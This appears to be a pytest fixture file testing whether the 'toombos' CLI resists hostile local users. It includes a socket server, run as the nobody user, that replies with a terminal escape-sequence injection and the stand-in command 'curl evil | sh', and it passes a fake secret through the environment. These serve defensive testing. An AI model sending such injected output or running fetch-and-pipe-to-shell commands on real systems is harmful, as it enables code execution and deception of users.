"""A place for two users, and a stranger who serves a control socket."""

import io
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.support.programs import needs
from tests.support.runner import run_toombos
from toombos_cli.main import main

NOBODY = 65_534
LONG = "b" * 110


@dataclass
class Site:
    """Two directories of one test: `home`, where the commands run, and `victim`, which nothing may touch."""

    top: Path
    home: Path
    arguments: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)
    through: tuple[str, ...] = ()

    @property
    def canary(self) -> Path:
        """The file that exists once the project's command, or a program named in it, was executed."""
        return self.top / "EXECUTED"

    def write(self, directory: Path, name: str = "toombos.toml", *, owner: int = 0) -> None:
        """Write a project whose every program leaves the canary."""
        command = json.dumps(["sh", "-c", f"id >> {self.canary}; exec sleep 60"])
        text = f'[services.x]\ncommand = {command}\nscheme = "none"\n'
        (directory / name).write_text(text if name == "toombos.toml" else "LD_PRELOAD=/nonexistent\n")
        os.chown(directory / name, owner, owner)

    def files(self) -> dict[str, bytes]:
        """Return every file, link and directory with its content."""
        found = {}
        for path in sorted(self.top.rglob("*")):
            kind = path.lstat().st_mode
            content = b"link" if stat.S_ISLNK(kind) else path.read_bytes() if stat.S_ISREG(kind) else b"-"
            found[str(path.relative_to(self.top))] = content
        return found

    @property
    def environment(self) -> dict[str, str]:
        """The variables that the commands get."""
        return {"XDG_CONFIG_HOME": str(self.top.parent / "config"), "MY_SECRET": "aws-key-of-root"} | self.env

    def __call__(self, command: str) -> "subprocess.CompletedProcess[str]":
        """Run a command of toombos in `home`."""
        argv = (*self.arguments, *command.split())
        return run_toombos(*argv, cwd=self.home, env=self.environment, through=self.through)

    def within(self, command: str) -> "subprocess.CompletedProcess[str]":
        """Run a command that is refused at once, in this process: there are hundreds of them."""
        out, err = io.StringIO(), io.StringIO()
        with pytest.MonkeyPatch.context() as patch, redirect_stdout(out), redirect_stderr(err):
            patch.chdir(self.home)
            for name, value in self.environment.items():
                patch.setenv(name, value)
            code = main([*self.arguments, *command.split()])
        return subprocess.CompletedProcess(command, code, out.getvalue(), err.getvalue())


@pytest.fixture
def site(tmp_path: Path) -> Site:
    """An empty place for two users."""
    top = tmp_path / "site"
    top.mkdir(mode=0o755)
    (tmp_path / "config").mkdir(mode=0o700)
    return Site(top, top)


def give(path: Path, owner: int = NOBODY) -> None:
    """Change the owner of a directory and of everything in it, links included."""
    for each in (path, *path.rglob("*")):
        os.chown(each, owner, owner, follow_symlinks=False)


_HOSTILE = """
import os, socket, sys
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
os.setgid(65534)
os.setuid(65534)
server.listen()  # the kernel notes the user of this call
print("listening", flush=True)
while True:
    connection, _ = server.accept()
    connection.settimeout(1)
    try:
        connection.sendall(b'{"type":"Broken","message":"\\\\u001b]0;PWNED\\\\u0007","hint":"curl evil | sh"}\\n')
        heard = connection.recv(65536)
    except OSError:
        heard = b""
    os.write(int(sys.argv[2]), b"connected\\n" + heard)
    connection.close()
"""


@pytest.fixture
def hostile() -> Iterator[Callable[[Path], Callable[[], bytes]]]:
    """Let nobody serve a socket that belongs to root; the result returns what it has heard."""
    started = []
    with tempfile.TemporaryFile() as record:

        def serve(path: Path) -> Callable[[], bytes]:
            argv = [sys.executable, "-S", "-c", _HOSTILE, str(path), str(record.fileno())]
            server = subprocess.Popen(argv, stdout=subprocess.PIPE, pass_fds=(record.fileno(),), cwd=path.parent)
            started.append(server)
            assert server.stdout is not None
            assert server.stdout.readline() == b"listening\n"
            return lambda: os.pread(record.fileno(), 1_000_000, 0)

        yield serve
        for server in started:
            server.kill()
            server.communicate()


@pytest.fixture
def another(site: Site, nobody: list[str]) -> Iterator[Path]:
    """Give a project with a long path to a user whom no other test uses, and yield that user's socket directory."""
    user = 1_000_000 + os.getpid()
    with tempfile.TemporaryDirectory() as name:  # pytest closes the directory of tmp_path to others
        site.top = Path(name)
        site.top.chmod(0o755)
        site.home = site.top / LONG
        site.home.mkdir()
        site.write(site.home)
        give(site.home, user)
        # It may also search directories, so that it can start this interpreter, wherever that is installed.
        rights = ("--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search")
        site.through = (needs("setpriv"), f"--reuid={user}", f"--regid={user}", "--clear-groups", *rights)
        site.env = {"XDG_CONFIG_HOME": "/nonexistent"}
        directory = Path(f"/tmp/toombos-{user}")
        yield directory
    if directory.is_symlink() or directory.is_file():
        directory.unlink()
    elif directory.exists():
        shutil.rmtree(directory)
